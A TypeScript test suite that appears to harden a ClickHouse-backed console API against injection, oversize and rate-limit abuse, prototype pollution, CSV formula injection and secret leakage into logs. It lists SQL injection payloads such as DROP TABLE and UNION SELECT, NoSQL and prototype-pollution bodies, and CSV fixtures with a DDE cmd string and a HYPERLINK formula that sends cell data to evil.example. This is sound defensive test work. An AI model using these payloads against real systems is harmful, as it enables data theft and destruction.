// Hostile input against the console API on chDB with seeded data:
// - SQL injection attempts in every query parameter of the analytics, report, queue, audit, outbox and
//   corrections routes (classic payloads, ClickHouse {name:Type} placeholders, backticks, unicode quotes, long
//   strings, repeated keys where one value is expected, bracket keys): a 400 with a JSON error naming the
//   parameter, or for free-text parameters a harmless answer; the tables keep their rows afterwards;
// - hostile strings written through inserts (failed logins into the audit log) are stored and read back literally;
// - request size limit (413), burst over the rate limit (429 with Retry-After), prototype-poisoned bodies (400);
// - session cookie flags on login and logout; no token, password or session id in any log line.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMemoryBus } from '@cur/shared/bus/memory-bus';
import { fixedClock } from '@cur/shared/clock';
import { createLogger } from '@cur/shared/logger';
import type { Store } from '@cur/shared/store/clickhouse';
import { buildConsoleApp, type ConsoleApp } from '../../services/console/src/app';
import { bearer, buildTestApp, iso, now, openTestStore, seed, tokens, users } from '../../services/console/test/helpers';

let store: Store;
let cleanup: () => Promise<void>;
let app: ConsoleApp;
const counts: Record<string, number> = {};
const tables = ['posts', 'incidents', 'incident_events', 'sla_facts', 'console_audit'];

async function countRows(): Promise<Record<string, number>> {
  const out: Record<string, number> = {};
  for (const table of tables) out[table] = Number((await store.query<{ n: number }>(`SELECT count() AS n FROM ${table}`))[0]?.n);
  return out;
}

beforeAll(async () => {
  ({ store, cleanup } = await openTestStore('console-inject-'));
  await seed(store);
  // An answered incident whose texts look like spreadsheet formulas, for the CSV export.
  await store.insert('incidents', [{
    incident_id: 'inc:csv:1', post_uid: 'vk:8:1', region: 'lipetsk', topic: 'zhkh', location: 'lipetsk_city', importance: 'normal',
    authority: 'housing_dept', co_executors: [], status: 'answered', repeat_of_incident_id: '', detected_at: iso(-300), created_at: iso(-299),
    updated_at: iso(-100), url: '-2+3+cmd|\' /C calc\'!A0', text: 'Нет воды', source: 'vk', author_id: '@SUM(1+1)', evidence: '[]', version: 2,
  }]);
  await store.insert('incident_events', [
    ...['created', 'routed', 'received'].map((type, i) => ({ event_id: `csv-${i}`, incident_id: 'inc:csv:1', region: 'lipetsk', type, at: iso(-290 + i), actor: 'router', authority: type === 'routed' ? 'housing_dept' : '', co_executors: [], importance: '', reason: '', text: '' })),
    { event_id: 'csv-3', incident_id: 'inc:csv:1', region: 'lipetsk', type: 'draft_submitted', at: iso(-200), actor: 'gkh', authority: 'housing_dept', co_executors: [], importance: '', reason: '', text: '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")' },
    { event_id: 'csv-4', incident_id: 'inc:csv:1', region: 'lipetsk', type: 'approved', at: iso(-190), actor: 'kurator', authority: '', co_executors: [], importance: '', reason: '', text: '' },
    { event_id: 'csv-5', incident_id: 'inc:csv:1', region: 'lipetsk', type: 'published', at: iso(-180), actor: 'kurator', authority: '', co_executors: [], importance: '', reason: '', text: '' },
  ]);
  ({ app } = buildTestApp(store, { rateLimitPerMin: 1_000_000 }));
  Object.assign(counts, await countRows());
  expect(counts.posts).toBeGreaterThan(30);
});
afterAll(async () => {
  await app.server.close();
  await cleanup();
});

const get = (url: string, token = tokens.admin) => app.server.inject({ method: 'GET', url, headers: bearer(token) });

// ---------------------------------------------------------------------------------------------------------------
// Every query parameter, with a valid value (checked to answer 200 first, so the parameter is real).
// 'strict' parameters are codes, enums, numbers, dates or months: anything else is 400. 'text' parameters are
// free text bound as a server-side parameter: any value is a harmless answer (or 400 past its length limit).
// ---------------------------------------------------------------------------------------------------------------
interface Param {
  route: string; param: string; valid: string; kind: 'strict' | 'text'; harmless?: (body: any) => void;
  /** A strict parameter whose pattern some payloads happen to match (a code of letters and digits): those are values. */
  accepts?: RegExp;
}
const scope = (route: string): Param[] => [
  { route, param: 'from', valid: iso(-3 * 24 * 60), kind: 'strict' },
  { route, param: 'to', valid: iso(0), kind: 'strict' },
  { route, param: 'status', valid: 'all', kind: 'strict' },
  { route, param: 'region', valid: 'lipetsk', kind: 'strict' },
  { route, param: 'topic', valid: 'roads', kind: 'strict' },
  { route, param: 'location', valid: 'yelets_city', kind: 'strict' },
];
const month = (route: string): Param[] => [
  { route, param: 'month', valid: '2026-11', kind: 'strict' },
  { route, param: 'authority', valid: 'roads_dept', kind: 'strict' },
  { route, param: 'format', valid: 'csv', kind: 'strict' },
];
const params: Param[] = [
  ...scope('/api/analytics/volume'),
  { route: '/api/analytics/volume', param: 'bucket', valid: 'day', kind: 'strict' },
  { route: '/api/analytics/volume', param: 'by', valid: 'authority', kind: 'strict' },
  ...scope('/api/analytics/top'),
  { route: '/api/analytics/top', param: 'by', valid: 'location', kind: 'strict' },
  { route: '/api/analytics/top', param: 'limit', valid: '5', kind: 'strict' },
  ...scope('/api/analytics/table'),
  { route: '/api/analytics/table', param: 'rows', valid: 'source', kind: 'strict' },
  { route: '/api/analytics/table', param: 'columns', valid: 'importance', kind: 'strict' },
  { route: '/api/analytics/spikes', param: 'from', valid: iso(-3 * 24 * 60), kind: 'strict' },
  { route: '/api/analytics/spikes', param: 'to', valid: iso(0), kind: 'strict' },
  { route: '/api/analytics/spikes', param: 'live', valid: 'true', kind: 'strict' },
  ...month('/api/reports/compliance'),
  ...month('/api/reports/breaches'),
  ...month('/api/reports/monthly'),
  { route: '/api/reports/registry', param: 'from', valid: iso(-24 * 60), kind: 'strict' },
  { route: '/api/reports/registry', param: 'to', valid: iso(0), kind: 'strict' },
  { route: '/api/reports/registry', param: 'authority', valid: 'housing_dept', kind: 'strict' },
  { route: '/api/reports/registry', param: 'limit', valid: '100', kind: 'strict' },
  { route: '/api/reports/registry', param: 'format', valid: 'csv', kind: 'strict' },
  { route: '/api/incidents', param: 'status', valid: 'routed', kind: 'strict', accepts: /^[a-z0-9_]{1,40}$/, harmless: (b) => expect(b.total).toBe(0) },
  ...([['state', 'all'], ['authority', 'housing_dept'], ['importance', 'critical'], ['topic', 'zhkh'], ['location', 'lipetsk_city'],
    ['source', 'vk'], ['overdue', 'true'], ['repeat', 'false'], ['limit', '10'], ['offset', '0']] as const)
    .map(([param, valid]): Param => ({ route: '/api/incidents', param, valid, kind: 'strict' })),
  { route: '/api/incidents', param: 'q', valid: 'отопления', kind: 'text', harmless: (b) => expect(b.total).toBe(0) },
  { route: '/api/audit', param: 'incidentId', valid: 'inc:vk:1:1', kind: 'text', harmless: (b) => expect(b.entries).toEqual([]) },
  { route: '/api/audit', param: 'userId', valid: 'admin', kind: 'text', harmless: (b) => expect(b.entries).toEqual([]) },
  { route: '/api/audit', param: 'limit', valid: '10', kind: 'strict' },
  { route: '/api/outbox', param: 'status', valid: 'pending', kind: 'strict' },
  { route: '/api/outbox', param: 'limit', valid: '10', kind: 'strict' },
  { route: '/api/corrections', param: 'since', valid: iso(-60), kind: 'strict' },
];

const payloads = [
  "' OR 1=1 --",
  "' OR '1'='1",
  'topic); DROP TABLE posts; --',
  "1; DROP TABLE posts",
  "x' UNION SELECT user_id, detail FROM console_audit --",
  '{x:String}',
  "{from:DateTime64(3,'UTC')}",
  '`posts`',
  '"posts"',
  '\u2019 OR \u20181\u2019=\u20181', // typographic quotes
  '\uff07 OR 1=1 --', // fullwidth apostrophe
  'ʼ OR 1=1 --', // modifier letter apostrophe
  "\\' OR 1=1 --",
  'x\u0000y',
  "x\n' OR 1=1 --",
  'sleep(3)',
  '1e308',
  '-1',
  'a'.repeat(10_000),
  '🙂'.repeat(3000),
];

const urlWith = (p: Param, query: string) => `${p.route}?${query}`;
const enc = encodeURIComponent;

describe('SQL injection attempts in every query parameter', () => {
  it('lists every parameter each route accepts (a valid value answers 200)', async () => {
    for (const p of params) {
      const res = await get(urlWith(p, `${p.param}=${enc(p.valid)}`));
      expect(res.statusCode, `${p.route} ${p.param}=${p.valid}: ${res.body.slice(0, 200)}`).toBe(200);
    }
  });

  for (const p of params) {
    it(`${p.route} ${p.param} (${p.kind})`, async () => {
      const attempts: string[] = [];
      for (const payload of payloads) {
        attempts.push(`${p.param}=${enc(payload)}`, `${p.param}=${enc(p.valid + payload)}`);
      }
      // Arrays where one value is expected, bracket keys, and a valid value next to a hostile one.
      attempts.push(
        `${p.param}=${enc(p.valid)}&${p.param}=${enc(p.valid)}`,
        `${p.param}=${enc(p.valid)}&${p.param}=${enc("' OR 1=1 --")}`,
        `${p.param}[]=${enc(p.valid)}`,
        `${p.param}[0]=${enc(p.valid)}`,
        `${p.param}[$ne]=x`,
      );
      for (const query of attempts) {
        const res = await get(urlWith(p, query));
        const where = `${p.route}?${query.slice(0, 120)}`;
        expect(res.headers['content-type'], where).toMatch(/^application\/json/);
        const body = res.json();
        const value = decodeURIComponent(query.slice(query.indexOf('=') + 1));
        const isValue = p.accepts?.test(value) === true && !query.includes('&') && !query.includes('[');
        if ((p.kind === 'strict' && !isValue) || res.statusCode === 400) {
          expect(res.statusCode, `${where}: ${res.body.slice(0, 200)}`).toBe(400);
          expect(body.error.code, where).toBe('BAD_REQUEST');
          expect(body.error.message, where).toMatch(/query\./);
          expect(body.error.message.length, where).toBeLessThan(4000); // names the problem; does not echo 10 KB back
        } else {
          expect(res.statusCode, `${where}: ${res.body.slice(0, 200)}`).toBe(200);
          if (!query.startsWith(`${p.param}=${enc(p.valid)}`)) p.harmless?.(body);
        }
      }
    }, 60_000);
  }

  it('treats an incident id in the path as a value: hostile ids are 404 (400 past the path length limit), never SQL', async () => {
    for (const payload of payloads) {
      const res = await get(`/api/incidents/${enc(payload)}`);
      const isLong = enc(payload).length > 100; // fastify's maxParamLength
      expect(res.statusCode, payload.slice(0, 40)).toBe(isLong ? 400 : 404);
      expect(res.json().error.code).toBe(isLong ? 'BAD_REQUEST' : 'NOT_FOUND');
      expect(res.body).not.toContain('aaaaaaaaaa'); // the URL is not echoed back
      const action = await app.server.inject({ method: 'POST', url: `/api/incidents/${enc(payload)}/actions/close`, headers: bearer(tokens.curator), payload: {} });
      expect([400, 404], payload.slice(0, 40)).toContain(action.statusCode);
    }
  });

  it('answers a malformed URL in the API\'s error shape', async () => {
    for (const url of ['/api/incidents/%E0%A4%A', '/api/incidents/%zz']) {
      const res = await get(url);
      expect(res.statusCode, url).toBe(400);
      expect(res.json()).toEqual({ error: { code: 'BAD_REQUEST', message: expect.any(String) } });
      expect(res.headers['x-content-type-options']).toBe('nosniff');
    }
  });

  it('refuses unknown parameters, including look-alikes of real ones', async () => {
    for (const url of ['/api/analytics/volume?dimension=topic', '/api/analytics/volume?by%20=topic', '/api/analytics/top?BY=topic', '/api/reports/compliance?month=2026-11&sql=1', '/api/incidents?__proto__=x', '/api/incidents?constructor=x']) {
      const res = await get(url);
      expect(res.statusCode, url).toBe(400);
      expect(res.json().error.code).toBe('BAD_REQUEST');
    }
  });

  it('stores hostile strings literally: a failed login with them is audited and read back unchanged', async () => {
    const logins = ["admin' --", 'x"}\n{"user_id":"admin"}', "a'); DROP TABLE posts; --", '{userId:String}', '`console_audit`', 'ʼ OR 1=1', `low${String.fromCharCode(0xdc00)}surrogate`];
    for (const login of logins) {
      const res = await app.server.inject({ method: 'POST', url: '/api/login', payload: { login, password: "' OR 1=1 --" } });
      expect(res.statusCode, login).toBe(401);
      // A lone surrogate cannot be stored as UTF-8; it comes back as U+FFFD, everything else exactly.
      const stored = login.replace(/[\udc00-\udfff]/g, '\ufffd');
      const audit = await get(`/api/audit?userId=${enc(stored)}`);
      expect(audit.statusCode, login).toBe(200);
      const entries = audit.json().entries as { userId: string; action: string }[];
      expect(entries.length, login).toBe(1);
      expect(entries[0]!.userId, login).toBe(stored);
      expect(entries[0]!.action).toBe('login.failed');
    }
  });

  it('sends free text in bodies to the store as data: draft checks and actions with hostile text', async () => {
    for (const text of payloads.slice(0, 16)) {
      const check = await app.server.inject({ method: 'POST', url: '/api/incidents/inc:vk:1:1/draft-check', headers: bearer(tokens.housing), payload: { text } });
      expect(check.statusCode, text).toBe(200);
    }
    const draft = await app.server.inject({ method: 'POST', url: '/api/incidents/inc:vk:1:3/actions/draft', headers: bearer(tokens.housing), payload: { text: "Ответ'); DROP TABLE incidents; --", requestId: 'draft-inject-0001' } });
    expect(draft.statusCode).toBe(202);
    const audit = (await get('/api/audit?incidentId=inc%3Avk%3A1%3A3')).json().entries as { action: string }[];
    expect(audit.map((e) => e.action)).toContain('action.draft');
  });

  it('escapes spreadsheet formulas in CSV exports', async () => {
    const res = await get(`/api/reports/registry?format=csv&from=${enc(iso(-24 * 60))}&to=${enc(iso(0))}`, tokens.analyst);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const cells = res.body.split(/\r\n/).slice(1).join('\n').split(';');
    // Every cell that would start a formula starts with an apostrophe (inside quotes if quoted).
    for (const cell of cells) expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/u);
    expect(res.body).toContain('\'=HYPERLINK(');
    expect(res.body).toContain('\'@SUM(1+1)');
    expect(res.body).toContain('\'-2+3+cmd');
  });

  it('still has every row of every table afterwards', async () => {
    const after = await countRows();
    expect(after.posts).toBe(counts.posts);
    expect(after.incidents).toBe(counts.incidents);
    expect(after.sla_facts).toBe(counts.sla_facts);
    expect(after.incident_events).toBe(counts.incident_events);
    expect(after.console_audit).toBeGreaterThan(counts.console_audit!);
  });
});

describe('request size and rate limits', () => {
  it('answers 413 with a JSON error to a body over the limit, declared or not, before authentication', async () => {
    const { app: small } = buildTestApp(store, { bodyLimitBytes: 8 * 1024, rateLimitPerMin: 1_000 });
    const big = { text: 'я'.repeat(8 * 1024) };
    for (const headers of [bearer(tokens.housing), {}]) {
      const res = await small.server.inject({ method: 'POST', url: '/api/incidents/inc:vk:1:1/draft-check', headers, payload: big });
      expect(res.statusCode).toBe(413);
      expect(res.json().error.code).toBe('PAYLOAD_TOO_LARGE');
    }
    const login = await small.server.inject({ method: 'POST', url: '/api/login', payload: { login: 'admin', password: 'x'.repeat(20_000) } });
    expect(login.statusCode).toBe(413);
    // Just under the limit passes the size check (and then fails validation: text is at most 50,000 chars, fine).
    const under = await small.server.inject({ method: 'POST', url: '/api/incidents/inc:vk:1:1/draft-check', headers: bearer(tokens.housing), payload: { text: 'x'.repeat(7 * 1024) } });
    expect(under.statusCode).toBe(200);
    await small.server.close();
  });

  it('refuses prototype-poisoned and deeply nested JSON bodies with 400', async () => {
    const raw = (payload: string) => app.server.inject({ method: 'POST', url: '/api/login', headers: { 'content-type': 'application/json' }, payload });
    for (const payload of ['{"__proto__":{"isAdmin":true},"login":"admin","password":"x"}', '{"constructor":{"prototype":{"isAdmin":true}},"login":"a","password":"x"}',
      `{"login":${'['.repeat(5000)}${']'.repeat(5000)},"password":"x"}`, '{"login":"admin","password":"x"', '{"login":{"$ne":null},"password":{"$ne":null}}']) {
      const res = await raw(payload);
      expect(res.statusCode, payload.slice(0, 60)).toBe(400);
      expect(res.json().error.code).toBe('BAD_REQUEST');
    }
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
  });

  it('answers a burst over the limit with 429 and Retry-After, per client, and lets the client back in after that', async () => {
    const { app: limited, clock } = buildTestApp(store, { rateLimitPerMin: 30 });
    const burst = await Promise.all(Array.from({ length: 45 }, () => limited.server.inject({ method: 'GET', url: '/api/me', headers: bearer(tokens.analyst) })));
    const codes = burst.map((r) => r.statusCode);
    expect(codes.filter((c) => c === 200)).toHaveLength(30);
    expect(codes.filter((c) => c === 429)).toHaveLength(15);
    const refused = burst.find((r) => r.statusCode === 429)!;
    expect(refused.json().error.code).toBe('RATE_LIMITED');
    const retryAfter = Number(refused.headers['retry-after']);
    expect(Number.isInteger(retryAfter) && retryAfter >= 1 && retryAfter <= 60).toBe(true);
    // Another user is not affected; unauthenticated callers share their address's bucket (token guessing is throttled).
    expect((await limited.server.inject({ method: 'GET', url: '/api/me', headers: bearer(tokens.admin) })).statusCode).toBe(200);
    const guesses = await Promise.all(Array.from({ length: 40 }, (_, i) => limited.server.inject({ method: 'GET', url: '/api/me', headers: bearer(`guess-${i}-0123456789abcdef`) })));
    expect(guesses.filter((r) => r.statusCode === 429).length).toBe(10);
    const logins = await Promise.all(Array.from({ length: 5 }, () => limited.server.inject({ method: 'POST', url: '/api/login', payload: { login: 'admin', password: 'guess' } })));
    expect(logins.every((r) => r.statusCode === 429)).toBe(true);
    // After Retry-After seconds, the analyst is served again.
    clock.advanceMs(retryAfter * 1000);
    expect((await limited.server.inject({ method: 'GET', url: '/api/me', headers: bearer(tokens.analyst) })).statusCode).toBe(200);
    // The UI's static files are not rate limited.
    expect((await limited.server.inject({ method: 'GET', url: '/' })).statusCode).toBe(200);
    await limited.server.close();
  });
});

describe('session cookies and logs', () => {
  const lines: string[] = [];
  const sink = new Writable({ write(chunk, _enc, done) { lines.push(...String(chunk).split('\n').filter(Boolean)); done(); } });
  const logger = createLogger({ name: 'console-security', level: 'trace', destination: sink });
  const password = 'Pa55-word-that-must-not-leak';
  let logged: ConsoleApp;
  let tokenDir: string;

  beforeAll(async () => {
    const { hashPassword } = await import('../../services/console/src/auth/users');
    tokenDir = mkdtempSync(join(tmpdir(), 'console-token-'));
    // Every store call fails while `failing` is set, so errors get logged with requests that carry credentials.
    let failing = false;
    const flaky: Store = new Proxy(store, {
      get(target, prop, receiver) {
        const value = Reflect.get(target, prop, receiver) as unknown;
        if (typeof value !== 'function') return value;
        return (...args: unknown[]) => {
          if (failing) throw new Error(`Code: 210. DB::NetException: store unavailable while running ${JSON.stringify(args).slice(0, 300)}`);
          return (value as (...a: unknown[]) => unknown).apply(target, args);
        };
      },
    });
    logged = buildConsoleApp({
      bus: createMemoryBus({ logger }), store: flaky, logger, clock: fixedClock(now),
      config: {
        users: [...users, { id: 'mariya', name: 'Мария', role: 'curator', token: 'mariya-token-0123456789', passwordScrypt: hashPassword(password) }],
        spelling: false, secureCookies: true, rateLimitPerMin: 100_000, spikes: { checkIntervalSec: 0 },
      },
    });
    (logged as unknown as { setFailing: (v: boolean) => void }).setFailing = (v) => { failing = v; };
  });
  afterAll(async () => {
    await logged.server.close();
    rmSync(tokenDir, { recursive: true, force: true });
  });

  it('sets the session cookie HttpOnly, SameSite=Strict, Secure (behind HTTPS), path-wide, and clears it the same way', async () => {
    const login = await logged.server.inject({ method: 'POST', url: '/api/login', payload: { login: 'mariya', password } });
    expect(login.statusCode).toBe(200);
    const setCookie = String(login.headers['set-cookie']);
    const attributes = setCookie.split(';').map((a) => a.trim().toLowerCase());
    expect(attributes).toEqual(expect.arrayContaining(['httponly', 'samesite=strict', 'secure', 'path=/']));
    expect(attributes.find((a) => a.startsWith('max-age='))).toBe('max-age=43200');
    const sessionId = /^cur_session=([^;]+)/.exec(setCookie)![1]!;
    expect(sessionId.length).toBeGreaterThanOrEqual(43); // 32 random bytes
    expect(sessionId).not.toContain('mariya');
    // The body names the user and nothing secret.
    expect(login.body).not.toContain(password);
    expect(login.body).not.toContain(sessionId);
    expect(login.body).not.toContain('token');
    const logout = await logged.server.inject({ method: 'POST', url: '/api/logout', headers: { cookie: `cur_session=${sessionId}` }, payload: {} });
    const cleared = String(logout.headers['set-cookie']).toLowerCase();
    expect(cleared).toMatch(/^cur_session=;/);
    expect(cleared).toContain('max-age=0');
    expect(cleared).toContain('httponly');
    expect(cleared).toContain('samesite=strict');
    expect((await logged.server.inject({ method: 'GET', url: '/api/me', headers: { cookie: `cur_session=${sessionId}` } })).statusCode).toBe(401);
  });

  it('writes no token, password or session id into any log line, also when requests fail', async () => {
    const secrets: string[] = [password, 'mariya-token-0123456789', ...Object.values(tokens)];
    const setFailing = (logged as unknown as { setFailing: (v: boolean) => void }).setFailing;
    lines.length = 0;
    const login = await logged.server.inject({ method: 'POST', url: '/api/login', payload: { login: 'mariya', password } });
    const sessionId = /^cur_session=([^;]+)/.exec(String(login.headers['set-cookie']))![1]!;
    secrets.push(sessionId);
    await logged.server.inject({ method: 'POST', url: '/api/login', payload: { login: 'mariya', password: `${password}-wrong` } });
    await logged.server.inject({ method: 'POST', url: '/api/login', payload: { login: tokens.admin, password: tokens.curator } });
    setFailing(true);
    for (const headers of [bearer(tokens.admin), bearer(tokens.analyst), { cookie: `cur_session=${sessionId}` }]) {
      for (const url of ['/api/incidents?q=вода', '/api/analytics/volume', `/api/reports/registry?format=csv`, '/api/audit', '/api/incidents/inc:vk:1:1']) {
        const res = await logged.server.inject({ method: 'GET', url, headers: { ...headers, 'x-forwarded-for': '10.0.0.1' } });
        expect(res.statusCode, url).toBeGreaterThanOrEqual(400);
        // The client learns nothing of the failure's details.
        expect(res.body).not.toContain('DB::NetException');
      }
      await logged.server.inject({ method: 'POST', url: '/api/incidents/inc:vk:1:1/actions/receive', headers, payload: { requestId: 'receive-log-0001' } });
    }
    await logged.server.inject({ method: 'POST', url: '/api/login', payload: { login: 'mariya', password } });
    setFailing(false);
    await logged.server.inject({ method: 'GET', url: '/api/me', headers: bearer('wrong-token-0123456789') });
    // A console without users generates an admin token into a file: the log names the file, never the token.
    const tokenFile = join(tokenDir, 'admin.token');
    const bare = buildConsoleApp({ bus: createMemoryBus({ logger }), store, logger, clock: fixedClock(now), config: { adminTokenFile: tokenFile, spelling: false, spikes: { checkIntervalSec: 0 } } });
    const generated = readFileSync(tokenFile, 'utf8').trim();
    expect(generated.length).toBeGreaterThanOrEqual(32);
    secrets.push(generated);
    await bare.server.close();

    expect(lines.filter((l) => l.includes('"console_request_failed"')).length).toBeGreaterThanOrEqual(10);
    expect(lines.some((l) => l.includes(tokenFile))).toBe(true);
    const text = lines.join('\n');
    for (const secret of secrets) expect(text.includes(secret), `a log line holds ${secret.slice(0, 6)}…`).toBe(false);
    for (const line of lines) expect(line).not.toMatch(/authorization|cookie/i);
  });
});
